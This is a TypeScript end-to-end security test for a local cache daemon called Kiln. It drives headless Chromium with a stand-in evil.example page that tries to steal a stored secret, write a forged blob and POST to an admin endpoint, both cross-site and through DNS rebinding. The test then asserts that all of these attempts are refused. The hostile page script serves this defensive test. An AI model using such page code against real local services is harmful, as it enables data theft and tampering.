// A real browser, with pages that try what a hostile page would try on a Kiln of the same machine.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { TestContext } from 'node:test';
import { startDaemon } from '../e2e/daemon.ts';
import type { Daemon } from '../e2e/daemon.ts';
import { temporaryDirectory } from '../e2e/file-tree.ts';
import { runTool, spawnInGroup } from '../e2e/tool-run.ts';
import { installedTool } from './installed-tool.ts';

const secret = 'the source code of somebody';
const forged = 'what a page would like to be built into programs';
const pathOf = (text: string): string => `/cas/${createHash('sha256').update(text).digest('hex')}`;

/** Headless, and blind to everything but this machine: every other name stands for it, as after DNS rebinding. */
function chromium(profile: string): readonly [string, ...string[]] {
  const program = installedTool('chromium-headless-shell', 'apt-get install chromium-headless-shell');
  return [program, '--no-sandbox', '--disable-gpu', '--no-first-run', '--no-proxy-server', `--user-data-dir=${profile}`, '--host-resolver-rules=MAP *.example 127.0.0.1'];
}

async function withSecret(t: TestContext): Promise<{ daemon: Daemon; directory: string }> {
  const directory = temporaryDirectory(t, 'browser');
  const daemon = await startDaemon(t, join(directory, 'data'));
  assert.equal((await fetch(`${daemon.http}${pathOf(secret)}`, { method: 'PUT', body: secret })).status, 200);
  return { daemon, directory };
}

/** What a person would see at `url`. */
async function shown(directory: string, url: string): Promise<string> {
  const { output, status } = await runTool([...chromium(join(directory, 'profile')), '--dump-dom', url], { cwd: directory, env: { HOME: directory } });
  assert.equal(status, 0, output);
  return output;
}

/** The attempts of a page on the cache at `kiln`, each with what came of it. */
const hostilePage = (kiln: string, rebound: string): string => `<!doctype html><meta charset="utf-8"><script>
  const tried = {};
  const attempt = async (name, go) => { try { tried[name] = String(await go()); } catch (error) { tried[name] = 'failed: ' + error.message; } };
  const load = (tag, url) => new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('failed');
    element.src = url;
    document.body.append(element);
  });
  const body = ${JSON.stringify(forged)};
  (async () => {
    for (const base of [${JSON.stringify(kiln)}, ${JSON.stringify(rebound)}]) {
      await attempt('read ' + base, async () => (await fetch(base + ${JSON.stringify(pathOf(secret))})).text());
      await attempt('read without CORS ' + base, async () => (await fetch(base + ${JSON.stringify(pathOf(secret))}, { mode: 'no-cors' })).text());
      await attempt('write ' + base, async () => (await fetch(base + ${JSON.stringify(pathOf(forged))}, { method: 'PUT', body })).status);
      await attempt('post without CORS ' + base, async () => (await fetch(base + '/admin/cpu-profile', { method: 'POST', body, mode: 'no-cors' })).type);
      await attempt('script ' + base, () => load('script', base + ${JSON.stringify(pathOf(secret))}));
      await attempt('image ' + base, () => load('img', base + ${JSON.stringify(pathOf(secret))}));
    }
    await fetch('/report', { method: 'POST', body: JSON.stringify(tried) });
  })();
</script>`;

/** Opens the hostile page and waits for its report. */
async function reportOf(t: TestContext, directory: string, page: string): Promise<Readonly<Record<string, string>>> {
  const report = Promise.withResolvers<string>();
  const server = createServer((request, response) => {
    if (request.url === '/report') void request.toArray().then((chunks) => report.resolve(Buffer.concat(chunks as Buffer[]).toString()));
    response.setHeader('content-type', 'text/html').end(page);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(() => server.close().closeAllConnections());
  const { port } = server.address() as AddressInfo;
  const browser = spawnInGroup([...chromium(join(directory, 'profile')), '--remote-debugging-port=0', `http://evil.example:${port}/`], { cwd: directory, env: { HOME: directory } });
  t.after(() => browser.kill('SIGKILL'));
  const ended = once(browser, 'exit').then(([status]) => {
    throw new Error(`the browser ended with ${String(status)} before it had reported`);
  });
  ended.catch(() => {});
  return JSON.parse(await Promise.race([report.promise, ended])) as Record<string, string>;
}

describe('a page in Chromium', () => {
  it('DNS rebinding: sees a refusal under a name of its own, and a person sees the server by its address', async (t) => {
    const { daemon, directory } = await withSecret(t);
    const rebound = `http://rebound.example:${daemon.port}`;
    const stolen = await shown(directory, `${rebound}${pathOf(secret)}`);
    assert.match(stolen, /"rebound\.example" is not a name of this server/);
    assert.ok(!stolen.includes(secret));
    assert.match(await shown(directory, `${rebound}/status`), /is not a name of this server/);
    assert.match(await shown(directory, `${daemon.http}/status`), /"status":"ok"/);
  });

  it('cross-site: can neither read nor write', async (t) => {
    const { daemon, directory } = await withSecret(t);
    const tried = await reportOf(t, directory, hostilePage(daemon.http, `http://rebound.example:${daemon.port}`));
    assert.equal(Object.keys(tried).length, 12, JSON.stringify(tried));
    for (const [name, outcome] of Object.entries(tried)) {
      assert.ok(!outcome.includes(secret) && outcome !== 'loaded' && outcome !== '200', `${name}: ${outcome}`);
    }
    assert.equal((await fetch(`${daemon.http}${pathOf(forged)}`)).status, 404, 'nothing was written');
    const metrics = await (await fetch(`${daemon.http}/metrics`)).text();
    assert.match(metrics, /kiln_http_requests_total\{[^}]*code="403"[^}]*\} [1-9]/, 'the attempts came through to the server');
    assert.doesNotMatch(metrics, /kiln_http_requests_total\{[^}]*method="POST"[^}]*code="2/);
  });
});
